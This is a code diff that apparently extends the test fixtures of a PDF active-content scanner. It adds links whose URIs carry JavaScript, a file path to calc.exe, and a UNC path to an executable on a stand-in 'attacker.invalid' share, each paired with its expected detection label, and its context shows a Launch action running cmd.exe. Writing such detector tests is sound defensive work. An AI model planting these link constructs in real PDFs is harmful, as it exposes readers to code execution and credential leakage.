@@ -198,6 +198,24 @@ def _with_js_stream(pdf):
     pdf.Root.OpenAction = _action(pdf, S=Name.JavaScript, JS=code)
 
 
+def _uri_link(pdf, uri: str):
+    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]),
+        A=Dictionary(S=Name.URI, URI=String(uri))))])
+
+
+def _with_javascript_uri(pdf):
+    _uri_link(pdf, "  JavaScript:app.alert(1)")
+
+
+def _with_file_uri(pdf):
+    _uri_link(pdf, "file:///C:/Windows/System32/calc.exe")
+
+
+def _with_share_uri(pdf):
+    _uri_link(pdf, "\\\\attacker.invalid\\share\\x.exe")
+
+
 def _with_launch(pdf):
     pdf.Root.OpenAction = _action(pdf, S=Name.Launch, F=String("cmd.exe"),
                                   Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
@@ -252,7 +270,10 @@ ACTIVE = {
     "js_in_next_chain": (_with_js_next, "pdf_javascript"),
     "js_form_field": (_with_js_field, "pdf_javascript"),
     "js_code_in_stream": (_with_js_stream, "pdf_javascript"),
+    "javascript_uri": (_with_javascript_uri, "pdf_javascript"),
     "launch": (_with_launch, "pdf_launch"),
+    "file_uri": (_with_file_uri, "pdf_launch"),
+    "share_uri": (_with_share_uri, "pdf_launch"),
     "remote_goto": (_with_remote_goto, "pdf_launch"),
     "submit_form": (_with_submit_form, "pdf_launch"),
     "attachment": (_with_attachment, "pdf_embedded_file"),
